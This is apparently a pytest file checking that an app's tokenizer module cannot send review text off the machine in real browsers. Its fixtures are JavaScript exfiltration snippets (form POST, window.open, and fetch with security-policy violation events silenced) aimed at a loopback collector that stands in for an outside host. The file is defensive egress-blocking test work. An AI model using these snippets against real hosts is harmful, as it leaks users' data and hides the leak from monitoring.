"""A review never leaves through an app's tokenizer module (issue 28, the channels built so
far): a listener on another loopback port stands in for an outside host (no traffic goes to
any other address), a module sends the review text to it, and the run must fail naming the
address while the listener receives nothing. The real CLI in a child process, real browsers."""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from harness.core.paths import REPO
from runtimes.tokenizers import browser as tokenizer_browser

pytestmark = pytest.mark.browser
REVIEW = "secretreview"


class Listener:
    """A TCP listener on 127.0.0.1 that records every byte any connection sends it."""

    def __init__(self) -> None:
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.port = self.sock.getsockname()[1]
        self.received = bytearray()
        self.connections = 0
        self._thread = threading.Thread(target=self._accept, daemon=True)
        self._thread.start()

    def _accept(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            self.connections += 1
            conn.settimeout(2)
            try:
                while chunk := conn.recv(65536):
                    self.received += chunk
            except OSError:
                pass
            conn.close()

    def close(self) -> None:
        self.sock.close()


@pytest.fixture()
def listener() -> Iterator[Listener]:
    outside = Listener()
    yield outside
    outside.close()


FORM_POST = """export function encode(text) {
  const form = document.createElement("form");
  form.method = "POST"; form.action = "http://127.0.0.1:PORT/collect";
  const field = document.createElement("input"); field.name = "q"; field.value = text;
  form.appendChild(field); document.body.appendChild(form); form.submit();
  return [1, 2, 3];
}
"""
SILENCED_FETCH = """document.addEventListener("securitypolicyviolation", (e) => e.stopImmediatePropagation(), true);
window.addEventListener("securitypolicyviolation", (e) => e.stopImmediatePropagation(), true);
export function encode(text) {
  fetch("http://127.0.0.1:PORT/collect?q=" + encodeURIComponent(text)).catch(() => {});
  return [1, 2, 3];
}
"""
WINDOW_OPEN = """export function encode(text) {
  window.open("http://127.0.0.1:PORT/collect?q=" + encodeURIComponent(text));
  return [1, 2, 3];
}
"""
CHANNELS = {"form POST": FORM_POST, "fetch with the violation event silenced": SILENCED_FETCH}
NIGHTLY_CHANNELS = {"window.open": WINDOW_OPEN}  # every channel in every engine: test_egress_channels.py
ENGINES = ["js", "firefox:js", "webkit:js"]
IN_MAKE_TEST = {"js"}  # Firefox and WebKit through the CLI are nightly (test_egress_channels.py covers them)
CASES = [
    pytest.param(c, r, marks=[] if r in IN_MAKE_TEST and c in CHANNELS else [pytest.mark.nightly], id=f"{c}-{r}")
    for c in [*sorted(CHANNELS), *NIGHTLY_CHANNELS]
    for r in (ENGINES if c in CHANNELS else ["js", "firefox:js"])
]


@pytest.mark.parametrize(("channel", "runtime"), CASES)
def test_a_review_never_reaches_another_host(tmp_path: Path, listener: Listener, channel: str, runtime: str) -> None:
    ok = tokenizer_browser.availability(runtime)
    if not ok.ok:
        pytest.skip(f"tokenizer runtime {runtime} unavailable: {ok.reason}")
    module = tmp_path / "leaky.js"
    module.write_text({**CHANNELS, **NIGHTLY_CHANNELS}[channel].replace("PORT", str(listener.port)))
    env = {**os.environ, "TF_CPP_MIN_LOG_LEVEL": "3", "HARNESS_PAGE_CALL_SECONDS": "20"}
    proc = subprocess.run(
        [
            sys.executable,
            "-m",
            "harness.cli",
            "tokenize",
            "--app-tokenizer",
            f"{module}:encode",
            "--runtimes",
            runtime,
            REVIEW,
        ],
        cwd=REPO,
        env=env,
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert REVIEW.encode() not in listener.received, (listener.connections, bytes(listener.received[:200]))
    assert proc.returncode == 1, (proc.stdout, proc.stderr)
    error = json.loads(proc.stdout.splitlines()[0])["errors"][runtime]
    assert "blocked a request off this machine: " in error and f"127.0.0.1:{listener.port}" in error, error
